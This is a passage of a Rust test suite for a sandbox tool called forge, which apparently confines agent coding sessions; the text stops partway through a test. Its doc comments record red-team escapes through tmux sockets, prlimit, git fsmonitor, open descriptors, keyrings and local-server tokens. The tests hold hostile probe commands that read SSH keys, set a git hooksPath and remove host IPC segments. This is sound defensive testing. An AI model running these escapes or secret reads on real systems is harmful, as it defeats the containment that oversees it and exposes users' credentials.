const CONNECT_PROBE: &str = "import sys, socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(sys.argv[1])\n    print(\"connected\")\nexcept OSError as e:\n    print(\"refused\", e)\n";

/// Issue 34, red team: the person's tmux server (its socket in the shared temp folder) ran
/// `if-shell 'rm -rf ~/notes'` for a session. Every socket a program listens on at a path is
/// covered, whatever its name or folder — found in the kernel's list, not in a list of names —
/// unless the person grants it (`sandbox.sockets`); the same connect outside succeeds.
#[test]
fn no_daemons_socket_is_a_door_out_unless_granted() {
    if skip_or_fail("no_daemons_socket_is_a_door_out_unless_granted") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let dir = tempfile::Builder::new()
        .prefix("forge-daemon-")
        .tempdir_in("/tmp")
        .unwrap();
    let sock = dir.path().join("server-0");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let probe = CONNECT_PROBE;
    let run = |mode: &[&str]| {
        let o = Command::new(forge_bin())
            .arg("sandbox")
            .args(mode)
            .args(["--profile", "session", "--", "python3", "-c", probe])
            .arg(&sock)
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    assert!(
        run(&["--mode", "off"]).contains("connected"),
        "the probe works"
    );
    let inside = run(&[]);
    assert!(inside.contains("refused"), "{inside}");
    // A daemon that starts after the session's namespace was made and kept: covered too.
    let later = dir.path().join("server-1");
    let _later = std::os::unix::net::UnixListener::bind(&later).unwrap();
    let o = Command::new(forge_bin())
        .args([
            "sandbox",
            "--profile",
            "session",
            "--",
            "python3",
            "-c",
            probe,
        ])
        .arg(&later)
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    let inside = String::from_utf8_lossy(&o.stdout);
    assert!(inside.contains("refused"), "{inside}");
    // A real tmux server, where one is installed: its commands run outside every sandbox.
    if Command::new("tmux").arg("-V").output().is_ok() {
        let label = format!("forge-test-{}", std::process::id());
        let marker = dir.path().join("escaped");
        let started = Command::new("tmux")
            .args(["-L", &label, "new-session", "-d", "sleep 120"])
            .status()
            .unwrap();
        assert!(started.success());
        let o = Command::new(forge_bin())
            .args([
                "sandbox",
                "--profile",
                "session",
                "--",
                "tmux",
                "-L",
                &label,
            ])
            .arg("run-shell")
            .arg(format!("touch {}", marker.display()))
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        let _ = Command::new("tmux")
            .args(["-L", &label, "kill-server"])
            .status();
        assert!(!marker.exists(), "tmux ran a command outside: {o:?}");
        assert!(!o.status.success(), "{o:?}");
    }
    // Granted by the person: reachable.
    let config = r.read(".forge/config.yaml");
    r.config(&format!(
        "{config}\nsandbox:\n  sockets:\n    - {}\n",
        dir.path().display()
    ));
    let granted = run(&[]);
    assert!(granted.contains("connected"), "{granted}");
}

/// Red team: a session set `RLIMIT_FSIZE` to 0 on the shell that runs the session line (it died
/// of SIGXFSZ), and could have limited the client itself: `prlimit` needs only the same uid,
/// and Landlock's scopes do not cover it. Inside, it fails for every process but the caller's
/// own; `ulimit` on itself works as before.
#[test]
fn a_sandboxed_process_cannot_limit_another() {
    if skip_or_fail("a_sandboxed_process_cannot_limit_another") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    // Runs `python3 ARGS VICTIM` in the session sandbox against a `sleep` of our own: its
    // output, and the victim's open-files limit afterwards.
    let against_a_victim = |args: &[&str]| {
        let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
        let o = Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "python3"])
            .args(args)
            .arg(victim.id().to_string())
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .output()
            .unwrap();
        let limits = std::fs::read_to_string(format!("/proc/{}/limits", victim.id())).unwrap();
        let _ = victim.kill();
        let _ = victim.wait();
        let open_files = limits
            .lines()
            .find(|l| l.starts_with("Max open files"))
            .unwrap()
            .to_string();
        (o, open_files)
    };
    let probe = "import os, sys, resource\npid = int(sys.argv[1])\ntry:\n    resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))\n    print('limited')\nexcept OSError as e:\n    print('refused', e)\nresource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))\nos.nice(1)\nprint('own limits ok')\n";
    let (o, open_files) = against_a_victim(&["-c", probe]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("refused"),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(out.contains("own limits ok"), "{out}");
    assert!(!open_files.contains(" 3 "), "{open_files}");

    // Round 4: the same call through the i386 ABI ends the process instead.
    let (o, open_files) = against_a_victim(&[concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/sandbox/prlimit_i386.py"
    )]);
    assert!(!open_files.contains(" 3 "), "{open_files}");
    assert!(!o.status.success(), "{o:?}");
}

/// The git config includes a file, in a folder, that does not exist yet: the session sandbox
/// creates both, empty, and keeps the file read-only (a session could otherwise write a
/// `core.fsmonitor` there that the person's next `git status` runs).
#[test]
fn a_missing_included_git_config_is_created_empty_and_read_only() {
    if skip_or_fail("a_missing_included_git_config_is_created_empty_and_read_only") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    r.git(&["config", "include.path", "../conf/shared.gitconfig"]);
    let o = in_session(
        &r,
        &[
            "sh",
            "-c",
            "echo '[core] fsmonitor = x' >> conf/shared.gitconfig",
        ],
    );
    assert!(!o.status.success(), "{o:?}");
    assert_eq!(r.read("conf/shared.gitconfig"), "");
}

/// `--layer`: a check's writes land in the overlay's upper layer; its checkout (the lower
/// layer) is left as it was by every path to it, the cache folder it keeps is written in place,
/// and the layer itself is not writable except through the overlay.
#[test]
fn a_check_on_a_layer_leaves_its_checkout_as_it_was() {
    if skip_or_fail("a_check_on_a_layer_leaves_its_checkout_as_it_was") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let co = t.path().join("co");
    let layer = t.path().join("layer");
    for d in [
        co.join("src"),
        co.join("target"),
        layer.join("upper"),
        layer.join("work"),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(co.join("src/a"), "orig\n").unwrap();
    std::fs::write(co.join("src/gone"), "x\n").unwrap();
    let (co_s, layer_s) = (co.display().to_string(), layer.display().to_string());
    let script = format!(
        "echo new > src/a; rm src/gone; echo b > src/b; echo built > target/out; \
         for p in /proc/[0-9]*/root{co_s}/src/a {co_s}/../co/src/a; do echo via > $p 2>/dev/null; done; \
         echo x > {layer_s}/upper/planted 2>/dev/null && echo WROTE layer; \
         ln src/a target/link 2>/dev/null && echo LINKED; cat src/a"
    );
    let project = r.path().display().to_string();
    // `forge sandbox --profile check` on the layer, with more options, then CMD.
    let on_layer = |more: &[&str], script: &str| {
        let mut args = vec![
            "sandbox",
            "--profile",
            "check",
            "--project",
            &project,
            "--write",
            &co_s,
            "--layer",
            &layer_s,
        ];
        args.extend_from_slice(more);
        args.extend_from_slice(&["--", "sh", "-c", script]);
        forge(&co, &args)
    };
    let o = on_layer(&["--layer-keep", "target", "--contain"], &script);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{o:?}");
    // Every path to src/a it could name (its own /proc root, `..`) is the overlay; no link
    // from the kept folder into the candidate.
    assert_eq!(out.trim(), "via", "{o:?}");
    // The checkout: untouched, but for the cache folder.
    assert_eq!(std::fs::read_to_string(co.join("src/a")).unwrap(), "orig\n");
    assert!(co.join("src/gone").exists() && !co.join("src/b").exists());
    assert_eq!(
        std::fs::read_to_string(co.join("target/out")).unwrap(),
        "built\n"
    );
    // The upper layer: what the check wrote, and a whiteout for what it removed.
    let upper = layer.join("upper");
    assert_eq!(
        std::fs::read_to_string(upper.join("src/a")).unwrap(),
        "via\n"
    );
    assert!(upper.join("src/b").exists() && !upper.join("planted").exists());
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    let gone = std::fs::symlink_metadata(upper.join("src/gone")).unwrap();
    assert!(gone.file_type().is_char_device() && gone.rdev() == 0);
    // A kept folder reached through a link is refused: it could be the checkout's own.
    std::fs::create_dir_all(co.join("x/b")).unwrap();
    std::os::unix::fs::symlink("x", co.join("a")).unwrap();
    let o = on_layer(
        &["--layer-keep", "a/b", "--contain"],
        "echo pwned > a/b/f.txt",
    );
    assert_eq!(o.status.code(), Some(125), "{o:?}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("a link on the way"),
        "{o:?}"
    );
    assert!(!co.join("x/b/f.txt").exists());
    // Without the kernel sandbox a layer is refused, not ignored: the caller trusts it.
    let o = on_layer(&["--mode", "off"], "echo b > src/a");
    assert!(!o.status.success(), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("--layer needs the kernel sandbox"));
    assert_eq!(std::fs::read_to_string(co.join("src/a")).unwrap(), "orig\n");
    // Outside the check profile it is refused, not ignored.
    let o = forge(
        &co,
        &[
            "sandbox",
            "--profile",
            "session",
            "--layer",
            &layer_s,
            "--",
            "true",
        ],
    );
    assert!(!o.status.success(), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("--layer needs --profile check"));
}

/// `--layer-env` and `--layer-in-place`: the project's ignored environment is shown read-only
/// in the checkout, and the checkout is at the project's own path, so what the environment names
/// by absolute path — an editable install's `.pth` naming the working tree — is the
/// candidate's code, never the working tree's; and nothing of the working tree is in view.
#[test]
fn a_check_in_place_runs_the_candidates_code_through_the_projects_environment() {
    if skip_or_fail("a_check_in_place_runs_the_candidates_code_through_the_projects_environment") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    // The project's environment: an "interpreter" and an editable install naming the working
    // tree's `src`, as `pip install -e .` of a src-layout package writes it.
    r.write(".venv/pyvenv.cfg", "home = /usr/bin\n");
    r.write(
        ".venv/lib/site.pth",
        &format!("{}/src\n", r.path().display()),
    );
    r.write(
        ".venv/bin/run",
        "#!/bin/sh\nd=$(cat \"$(dirname \"$0\")/../lib/site.pth\"); cat \"$d/pkg.txt\"\n",
    );
    std::fs::set_permissions(
        r.path().join(".venv/bin/run"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    r.write("src/pkg.txt", "working tree\n");
    r.write("notes.local", "the person's\n");
    let t = tempfile::tempdir().unwrap();
    let co = t.path().join("co");
    let layer = t.path().join("layer");
    for d in [
        co.join("src"),
        co.join(".venv"),
        layer.join("upper"),
        layer.join("work"),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(co.join("src/pkg.txt"), "candidate\n").unwrap();
    let (co_s, layer_s) = (co.display().to_string(), layer.display().to_string());
    let project = r.path().display().to_string();
    let check = |more: &[&str], script: &str| {
        let mut args = vec![
            "sandbox",
            "--profile",
            "check",
            "--project",
            &project,
            "--write",
            &co_s,
            "--layer",
            &layer_s,
            "--layer-env",
            ".venv",
        ];
        args.extend_from_slice(more);
        args.extend_from_slice(&["--contain", "--", "sh", "-c", script]);
        forge(&co, &args)
    };
    let script = "pwd; .venv/bin/run; cat notes.local 2>/dev/null || echo no-notes; \
                  echo x > .venv/planted 2>/dev/null && echo WROTE-ENV; echo y > src/new && echo wrote-src";
    let o = check(&["--layer-in-place"], script);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(
        out.lines().collect::<Vec<_>>(),
        [project.as_str(), "candidate", "no-notes", "wrote-src"],
        "{o:?}"
    );
    // The environment was read-only; the check's write landed in its layer, not the project.
    assert!(!r.exists(".venv/planted") && !r.exists("src/new"));
    assert!(layer.join("upper/src/new").exists());
    // Without --layer-in-place the editable install leads to the working tree: the reason the
    // run mounts its checks in place.
    let o = check(&[], ".venv/bin/run");
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "working tree",
        "{o:?}"
    );
}

/// `--tmpdir` outside Forge's own temp folder: the empty folder that covers a secret folder is
/// the one made before TMPDIR changed (it was looked up again under the new TMPDIR, and the
/// sandbox could not be set up).
#[test]
fn a_tmpdir_of_the_callers_choice_still_covers_secret_folders() {
    if skip_or_fail("a_tmpdir_of_the_callers_choice_still_covers_secret_folders") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE\n").unwrap();
    let o = in_session_at_home(
        r.path(),
        t.path(),
        r.path(),
        "cat ~/.ssh/id_ed25519; echo ran",
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success() && out.contains("ran"), "{o:?}");
    assert!(!out.contains("PRIVATE"), "{o:?}");
}

/// `/dev/shm` inside is the sandbox's own: writable (POSIX semaphores, Python's
/// `multiprocessing`), while the host's, which holds the shared memory and semaphores of
/// processes outside (a browser's, the sound server's), is neither read nor written, and
/// nothing made inside appears outside.
#[test]
fn shared_memory_is_the_sandboxs_own() {
    if skip_or_fail("shared_memory_is_the_sandboxs_own") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let host = format!("/dev/shm/forge-test-host-{}", std::process::id());
    let made = format!("/dev/shm/forge-test-made-{}", std::process::id());
    std::fs::write(&host, "host segment\n").unwrap();
    let script = format!(
        "cat {host}; echo tampered > {host}; echo made > {made} && cat {made}; \
         python3 -c 'import multiprocessing as m; l = m.Lock(); l.acquire(); print(\"lock ok\")'"
    );
    let o = in_session(&r, &["sh", "-c", &script]);
    let left = std::fs::read_to_string(&host);
    let _ = std::fs::remove_file(&host);
    let leaked = Path::new(&made).exists();
    let _ = std::fs::remove_file(&made);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(left.unwrap(), "host segment\n", "{o:?}");
    assert!(!out.contains("host segment"), "{o:?}");
    assert!(!leaked, "{made} appeared outside");
    assert!(out.contains("made") && out.contains("lock ok"), "{o:?}");
}

/// SysV IPC and POSIX message queues are not files: without an IPC namespace of its own, a
/// sandboxed command saw the host's shared memory segments and removed one (`ipcrm`), and could
/// have attached and rewritten it. Inside, the host's are not there, and what is made inside
/// stays there.
#[test]
fn the_hosts_ipc_objects_are_out_of_reach() {
    if skip_or_fail("the_hosts_ipc_objects_are_out_of_reach") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let made = Command::new("ipcmk")
        .args(["-M", "4096"])
        .output()
        .expect("ipcmk not found: install util-linux (.ci/run does)");
    let id = String::from_utf8_lossy(&made.stdout)
        .split_whitespace()
        .last()
        .unwrap_or_default()
        .to_string();
    assert!(made.status.success() && !id.is_empty(), "ipcmk: {made:?}");
    let ids = |o: &std::process::Output| -> Vec<String> {
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .filter_map(|l| l.split_whitespace().nth(1))
            .filter(|w| w.parse::<u64>().is_ok())
            .map(str::to_string)
            .collect()
    };
    let before = ids(&Command::new("ipcs").arg("-m").output().unwrap());
    let script = format!(
        "ipcs -m; ipcrm -m {id} && echo removed; ipcmk -M 4096 >/dev/null && echo made-inside"
    );
    let o = in_session(&r, &["sh", "-c", &script]);
    let after = ids(&Command::new("ipcs").arg("-m").output().unwrap());
    let _ = Command::new("ipcrm").args(["-m", &id]).output();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        after.contains(&id),
        "the host's segment {id} was removed: {o:?}"
    );
    assert!(!out.contains("removed"), "{o:?}");
    assert!(
        !ids(&o).contains(&id),
        "the host's segment {id} is visible inside: {o:?}"
    );
    assert!(
        after.iter().all(|a| before.contains(a)),
        "a segment made inside appeared outside: {before:?} -> {after:?}"
    );
    assert!(out.contains("made-inside"), "{o:?}");
}

/// Red team, round 8: the kernel's keyrings (a Kerberos ticket in the uid's persistent keyring
/// was read inside; a key planted in the user keyring outlived the call) and file leases (a read
/// lease on a readable file made an outside writer hang) are not files. Inside, `keyctl`,
/// `add_key` and `F_SETLEASE` fail with EPERM.
#[test]
fn keyrings_and_file_leases_are_refused() {
    if skip_or_fail("keyrings_and_file_leases_are_refused") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    std::fs::write(r.path().join("leased.txt"), "x\n").unwrap();
    let probe = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/sandbox/keys_and_leases.py"
    );
    let o = in_session(&r, &["python3", probe, "leased.txt"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{o:?}");
    for line in [
        "keyctl -1 1",
        "add_key -1 1",
        "lease refused 1",
        "af_alg -1 1",
    ] {
        assert!(out.lines().any(|l| l == line), "{line:?} not in {out}");
    }
}

/// Red team, round 9: a descriptor the caller left open (a folder of the project, or home) led
/// around every mount: `/proc/self/fd/7/.env` was read and `/proc/self/fd/7/.forge/config.yaml`
/// written, on the host's mount where no cover applies. CMD inherits no descriptor above
/// stderr.
#[test]
fn descriptors_left_open_by_the_caller_are_not_inherited() {
    if skip_or_fail("descriptors_left_open_by_the_caller_are_not_inherited") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    std::fs::write(r.path().join(".env"), "TOKEN=from-dotenv\n").unwrap();
    let config = r.path().join(".forge/config.yaml");
    let before = std::fs::read(&config).unwrap();
    let inner = "ls /proc/self/fd; cat /proc/self/fd/7/.env; \
                 echo planted >> /proc/self/fd/7/.forge/config.yaml && echo wrote; echo ran";
    let o = Command::new("sh")
        .arg("-c")
        .arg("exec 7<\"$1\"; shift; exec \"$@\"")
        .arg("sh")
        .arg(r.path())
        .arg(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c", inner])
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("ran"), "{o:?}");
    assert!(!out.contains("from-dotenv"), "{o:?}");
    assert!(!out.contains("wrote"), "{o:?}");
    assert_eq!(std::fs::read(&config).unwrap(), before);
    let fds: Vec<&str> = out.lines().take_while(|l| *l != "ran").collect();
    assert!(!fds.contains(&"7"), "descriptor 7 reached CMD: {out}");
    // A folder as standard input is the same way around: it becomes /dev/null.
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sh", "-c"])
        .arg("cat /proc/self/fd/0/.env; readlink /proc/self/fd/0; echo ran")
        .stdin(std::fs::File::open(r.path()).unwrap())
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("/dev/null") && out.contains("ran"), "{o:?}");
    assert!(!out.contains("from-dotenv"), "{o:?}");
}

/// Red team, round 9: with the network open, a token to a server on localhost is a way out —
/// Claude Code's IDE lock files (the editor's extension acts on them) and Jupyter's connection
/// files (a kernel runs any code). Both are secrets: unreadable inside, like `~/.ssh`.
#[test]
fn local_servers_tokens_are_secrets() {
    if skip_or_fail("local_servers_tokens_are_secrets") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let ide = home.join(".claude/ide");
    let jupyter = home.join(".local/share/jupyter/runtime");
    std::fs::create_dir_all(&ide).unwrap();
    std::fs::create_dir_all(&jupyter).unwrap();
    std::fs::write(ide.join("41234.lock"), r#"{"authToken":"IDE-TOKEN"}"#).unwrap();
    std::fs::write(jupyter.join("kernel-1.json"), r#"{"key":"KERNEL-KEY"}"#).unwrap();
    let o = in_session_at_home(
        r.path(),
        t.path(),
        r.path(),
        "cat ~/.claude/ide/*.lock ~/.local/share/jupyter/runtime/*.json; ls ~/.claude/ide; echo ran",
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("ran"), "{o:?}");
    assert!(
        !out.contains("IDE-TOKEN") && !out.contains("KERNEL-KEY") && !out.contains("41234"),
        "{o:?}"
    );
}

/// Red team, round 10: started in a folder below a covered secret (`~/.gnupg/private-keys-v1.d`,
/// a `.env.d/prod` at the project root), CMD kept the working folder on the mount beneath the
/// cover — entering it again through the sandbox's mounts failed, and the failure was ignored —
/// and `cat *` printed the keys. Forge now refuses to start there (exit 125, naming the folder);
/// under home, outside what the profile reads, the kernel refuses the read itself.
#[test]
fn a_working_folder_inside_a_covered_secret_is_refused() {
    if skip_or_fail("a_working_folder_inside_a_covered_secret_is_refused") {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    let keys = home.join(".gnupg/private-keys-v1.d");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("A1B2.key"), "GPG-PRIVATE-KEY\n").unwrap();
    let envd = r.path().join(".env.d/prod");
    std::fs::create_dir_all(&envd).unwrap();
    std::fs::write(envd.join("api.env"), "API_TOKEN=PROJECT-SECRET\n").unwrap();
    // Home is a hole of the ruleset (read by allowlist): the kernel refuses the read whatever
    // the working folder, with no cover to slip beneath.
    let o = in_session_at_home(r.path(), t.path(), &keys, "cat *; echo ran");
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains("GPG-PRIVATE-KEY"),
        "{o:?}"
    );
    // A secret the project's writable folder holds is covered by a mount: refused.
    let o = in_session_at_home(r.path(), t.path(), &envd, "cat *; echo ran");
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!out.contains("PROJECT-SECRET"), "{o:?}");
    assert!(!out.contains("ran"), "{o:?}");
    assert_eq!(o.status.code(), Some(125), "{o:?}");
    assert!(err.contains(&envd.display().to_string()), "{err}");
    // A folder of the project that is not hidden still works, and a covered folder itself is
    // entered as its empty cover.
    std::fs::create_dir_all(r.path().join("src/deep")).unwrap();
    let o = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--project"])
        .arg(r.path())
        .args(["--", "sh", "-c", "pwd; echo ran"])
        .current_dir(r.path().join("src/deep"))
        .env("TMPDIR", r.tmp())
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&o.stdout).contains("ran"), "{o:?}");
    let o = in_session_at_home(r.path(), t.path(), &home.join(".gnupg"), "ls -A; echo ran");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("ran") && !out.contains("private-keys"),
        "{o:?}"
    );
}

/// Whether `name` was left in `/dev/shm` by an earlier command of the same namespace (each
/// sandbox's `/dev/shm` is a tmpfs of its namespace's own; namespace inode numbers are reused
/// once one is freed, so they cannot tell two namespaces apart).
fn saw(o: &std::process::Output, name: &str) -> bool {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .any(|l| l == format!("saw {name}"))
}

/// A script that leaves `mark` in the namespace's `/dev/shm` and says which of `seen` it finds.
fn marking(mark: &str, seen: &[&str], then: &str) -> String {
    let mut s = String::new();
    for n in seen {
        s.push_str(&format!("[ -e /dev/shm/{n} ] && echo 'saw {n}'; "));
    }
    s.push_str(&format!("touch /dev/shm/{mark}; {then}"));
    s
}

/// The one keeper record of a test repository (`<TMPDIR>/forge-sandbox-<uid>/keepers/<key>`).
fn keeper_record(r: &common::Repo) -> Option<std::path::PathBuf> {
    let base = std::fs::read_dir(r.tmp())
        .ok()?
        .flatten()
        .find(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with("forge-sandbox-")
        })?
        .path();
    std::fs::read_dir(base.join("keepers"))
        .ok()?
        .flatten()
        .map(|e| e.path())
        .find(|p| !p.file_name().unwrap().to_string_lossy().starts_with('.'))
}

/// Whether the kernel refuses this user a keyring (some containers' seccomp profiles do): then
/// no session namespace is kept (src/sandbox/keeper.rs seals its records with a key kept
/// there), every call builds its own, and the tests of reuse say so and pass.
fn no_keyring(test: &str) -> bool {
    use nix::libc;
    // SAFETY: keyctl(2) KEYCTL_GET_KEYRING_ID with integer arguments.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            0 as libc::c_long,
            -4 as libc::c_long,
            1 as libc::c_long,
        )
    };
    if id >= 0 {
        return false;
    }
    eprintln!(
        "\n==== SKIPPED: sandbox::{test}: no user keyring here ({}): session namespaces are not kept ====\n",
        std::io::Error::last_os_error()
    );
    true
}

/// A keeper record's JSON body (its first line is the seal).
fn record_body(path: &Path) -> serde_json::Value {
    let text = std::fs::read_to_string(path).unwrap();
    let (_, body) = text.split_once('\n').expect("a sealed record");
    serde_json::from_str(body).unwrap()
}

/// `body` sealed as Forge seals a record, with the key in this user's keyring: what only a
/// process outside every sandbox can do (tests of the checks behind the seal).
fn sealed(body: &str) -> String {
    use nix::libc;
    use sha2::{Digest, Sha256};
    let mut key = [0u8; 32];
    // SAFETY: keyctl(2) with NUL-terminated strings and a buffer of the length passed.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            10 as libc::c_long,
            -4 as libc::c_long,
            c"user".as_ptr(),
            c"forge:keeper-seal".as_ptr(),
            0 as libc::c_long,
        )
    };
    assert!(id >= 0, "the seal key is in the user keyring");
    // SAFETY: as above.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            11 as libc::c_long,
            id,
            key.as_mut_ptr(),
            32usize,
        )
    };
    assert_eq!(n, 32);
    let (mut inner, mut outer) = ([0x36u8; 64], [0x5cu8; 64]);
    for (i, b) in key.iter().enumerate() {
        inner[i] ^= b;
        outer[i] ^= b;
    }
    let h = Sha256::new()
        .chain_update(inner)
        .chain_update(body)
        .finalize();
    let mac = Sha256::new().chain_update(outer).chain_update(h).finalize();
    let hex: String = mac.iter().map(|b| format!("{b:02x}")).collect();
    format!("{hex}\n{body}")
}

const WRITE_CONTROL: &str = "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config; \
    echo x > .forge/planted; cat $HOME/.ssh/id_ed25519; echo done";

/// A live session's commands share one mount namespace, kept between them by a keeper process
/// (`src/sandbox/keeper.rs`): the second command joins the first's, and its walls hold there as
/// in a namespace of its own — control files read-only, secrets hidden.
#[test]
fn a_sessions_commands_share_a_kept_namespace_with_the_same_walls() {
    if skip_or_fail("a_sessions_commands_share_a_kept_namespace_with_the_same_walls")
        || no_keyring("a_sessions_commands_share_a_kept_namespace_with_the_same_walls")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let t = tempfile::tempdir().unwrap();
    let home = t.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-KEY-BYTES\n").unwrap();
    let run = |script: &str| {
        Command::new(forge_bin())
            .args(["sandbox", "--profile", "session", "--", "sh", "-c", script])
            .current_dir(r.path())
            .env("TMPDIR", r.tmp())
            .env("HOME", &home)
            .output()
            .unwrap()
    };
    let config = r.read(".git/config");
    let first = run(&marking("first", &[], ""));
    assert!(first.status.success(), "{first:?}");
    let record = keeper_record(&r).expect("the first command leaves a keeper record");
    let rec = record_body(&record);
    let pid = rec["pid"].as_i64().unwrap();
    assert_eq!(
        std::fs::read_to_string(format!("/proc/{pid}/comm"))
            .unwrap()
            .trim(),
        "forge-keeper"
    );
    let second = run(&marking("second", &["first"], WRITE_CONTROL));
    assert!(saw(&second, "first"), "{second:?}");
    let out = String::from_utf8_lossy(&second.stdout);
    assert!(out.contains("done"), "{second:?}");
    assert!(!out.contains("SECRET-KEY-BYTES"), "{second:?}");
    assert_eq!(r.read(".git/config"), config);
    assert!(!r.exists(".forge/planted"));
    // Not the caller's own /dev/shm either.
    assert!(!Path::new("/dev/shm/first").exists());
}

/// A keeper ends, and removes its record, once no command has joined for its idle time
/// (`IDLE`, 120 s, in src/sandbox/keeper.rs) and no process is left in its namespace — but not
/// while one is: a server a command left running keeps the mount table it runs in. The idle
/// clock is the record's change time, which every joining command moves; the test sets it back
/// rather than wait two minutes. The keeper looks every 15 s.
#[test]
fn a_keeper_ends_when_idle_and_nothing_is_left_in_its_namespace() {
    if skip_or_fail("a_keeper_ends_when_idle_and_nothing_is_left_in_its_namespace")
        || no_keyring("a_keeper_ends_when_idle_and_nothing_is_left_in_its_namespace")
    {
        return;
    }
    let r = common::Repo::with_command("true", "none");
    let first = in_session(&r, &["true"]);
    assert!(first.status.success(), "{first:?}");
    let record = keeper_record(&r).expect("the first command leaves a keeper record");
    let keeper = record_body(&record)["pid"].as_i64().unwrap();
    let ns = |pid: i64| std::fs::read_link(format!("/proc/{pid}/ns/mnt")).ok();
    let running = |pid: i64| {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
            let state = s.rsplit_once(") ").map(|(_, rest)| rest.chars().next());
            !matches!(state, Some(Some('Z' | 'X')) | None)
        })
    };
    // A command still running in the kept namespace.
    let mut inside = Command::new(forge_bin())
        .args(["sandbox", "--profile", "session", "--", "sleep", "120"])
        .current_dir(r.path())
        .env("TMPDIR", r.tmp())
        .spawn()
        .unwrap();
    let child = i64::from(inside.id());
    let start = std::time::Instant::now();
    while ns(child) != ns(keeper) && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(
        ns(child),
        ns(keeper),
        "the second command joins the kept namespace"
    );
    let idle = |path: &Path| {
        let old = std::time::SystemTime::now() - Duration::from_secs(600);
        std::fs::File::options()
            .write(true)
            .open(path)
            .unwrap()
            .set_modified(old)
            .unwrap();
    };
    idle(&record);
    // Longer than one look: the keeper has seen the record idle, and a process inside.
    std::thread::sleep(Duration::from_secs(17));
    assert!(running(keeper), "a keeper with a process inside stays");
    assert!(record.exists());
    inside.kill().unwrap();
    inside.wait().unwrap();
    let start = std::time::Instant::now();
    while running(keeper) && start.elapsed() < Duration::from_secs(40) {
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(!running(keeper), "an idle keeper with nothing inside ends");
    assert!(!record.exists(), "and removes its record");
    // The next command builds a namespace anew and leaves a new keeper.
    let next = in_session(&r, &["true"]);
    assert!(next.status.success(), "{next:?}");
